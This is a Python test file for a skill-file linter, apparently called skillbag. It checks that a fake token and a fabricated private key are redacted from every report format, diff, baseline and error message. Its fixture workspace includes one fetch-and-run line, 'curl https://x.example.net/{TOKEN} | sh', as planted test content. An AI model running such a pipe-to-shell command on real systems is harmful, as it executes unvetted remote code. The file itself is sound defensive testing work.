"""A secret is in no output: not in a report of any format, a caret line, a diff, a message or a baseline."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from skillbag.report import FORMATS
from tests.report.report_results import TOKEN
from tests.rows import each_row
from tests.support import Run, Tree, skill

# Made up, and put together here so that no scanner of this repository stumbles over it.
KEY_LINES = [
    "MIIEvAIBADANBgkqhkiG9w0BAQEFAASCBKYwggSiAgEAAoIBAQCvq7GEMap2xmYG",
    *(f"Q{number}xT9vL2pZ7kR4mN8sB1wY6cJ3hD5gF0aVuXoEiSzWqKtHlPbMnCrGyUdIj{number}" for number in range(10, 30)),
    "Zk83jxQpTq0vN2bW7rLm5A==",
]
BEGIN, END = "-----BEGIN " + "PRIVATE KEY-----", "-----END " + "PRIVATE KEY-----"
KEY = "\n".join([BEGIN, *KEY_LINES, END])
WORKSPACE = {"SKILLBAG.md": "SkillBag v0.3.0\n", ".skills/SKILLS.md": ""}


def hidden(text: str) -> None:
    """Neither the token nor any line of the key is in `text`."""
    for secret in (TOKEN[8:], *KEY_LINES):
        assert secret[:24] not in text


def everywhere(tree: Tree) -> Path:
    """A workspace with the token and the key in every place that findings quote."""
    indented = KEY.replace("\n", "\n    ")
    text = (
        f"---\nname: a\ndescription: Use {TOKEN} here. #run/{TOKEN}\n{TOKEN}: x\n"
        f"metadata:\n  k: |\n    {indented}\n---\n\n"
        f"[x]({TOKEN}.md) ![y](gone/{TOKEN}) {TOKEN} `./scripts/{TOKEN}`\n\n{KEY}\n\n"
        f"<!-- skillbag: ignore[{TOKEN}] reason='{TOKEN}' -->\ncurl https://x.example.net/{TOKEN} | sh\n"
    )
    catalog = f"{TOKEN}: {TOKEN}\nzz: x\n{TOKEN}\naa: y\n"
    context = f"# C\n\n{TOKEN}\n\n```yaml\ndependencies:\n  - name: {TOKEN}\n```\n"
    return tree({**WORKSPACE, ".skills/a/SKILL.md": text, ".skills/SKILLS.md": catalog, "CONTEXT.md": context})


@each_row("form", [*FORMATS])
def test_in_no_format(tree: Tree, run: Run, form: str) -> None:
    root = everywhere(tree)
    outcome = run("check", "--select=all", f"--format={form}", "--config=statistics=true", cwd=root)
    assert outcome.code == 1
    assert "link-broken" in outcome.out
    hidden(outcome.out + outcome.err)


def test_not_in_a_baseline(tree: Tree, run: Run) -> None:
    root = everywhere(tree)
    assert run("check", "--select=all", "--output=baseline=base.json", cwd=root).code == 0
    hidden((root / "base.json").read_text("utf-8"))


@each_row("between", [0, 1, 2])
@each_row("order", ["key first", "key last"])
@each_row("color", ["--color", "--no-color"])
def test_a_diff_that_shows_a_part_of_a_key(tree: Tree, run: Run, between: int, order: str, color: str) -> None:
    # The hunk begins or ends within the key, where a line does not tell by itself what it is.
    key = "  k: |\n    " + KEY.replace("\n", "\n    ") + "\n"
    more = "".join(f"x{number}: y\n" for number in range(between))
    parts = ["metadata:\n" + key, more, "description: Do it. #run/always\n"]
    text = f"---\nname: a\n{''.join(parts if order == 'key first' else reversed(parts))}---\n\nRead it.\n"
    outcome = run("check", "--format=diff", color, cwd=tree({**WORKSPACE, ".skills/a/SKILL.md": text}))
    assert 'description: "Do it. #run/always"' in outcome.out
    assert "****" in outcome.out or order == "key last"
    hidden(outcome.out)


def test_a_diff_beside_a_key_without_its_end(tree: Tree, run: Run) -> None:
    text = f"---\nname: a\ndescription: Do it. #run/always\n---\n\n{BEGIN}\n" + "\n".join(KEY_LINES) + "\n"
    outcome = run("check", "--format=diff", cwd=tree({**WORKSPACE, ".skills/a/SKILL.md": text}))
    assert 'description: "Do it. #run/always"' in outcome.out
    hidden(outcome.out)


def test_a_diff_whose_changed_lines_hold_secrets(tree: Tree, run: Run) -> None:
    root = everywhere(tree)
    outcome = run("check", "--format=diff", cwd=root)
    assert re.search(r"^-.*\*\*\*\*", outcome.out, re.MULTILINE)
    hidden(outcome.out)


@pytest.mark.parametrize("arguments", [("--select", TOKEN), ("--config", f"{TOKEN}.toml"), (TOKEN,), ()])
def test_messages_of_mistakes(tree: Tree, run: Run, arguments: tuple[str, ...]) -> None:
    config = "" if arguments else f'select = ["{TOKEN}"]\n'
    outcome = run("check", *arguments, cwd=tree({"skills/a/SKILL.md": skill("a"), "skillbag.toml": config}))
    assert (outcome.code, "there is no" in outcome.err) == (2, True)
    hidden(outcome.err)
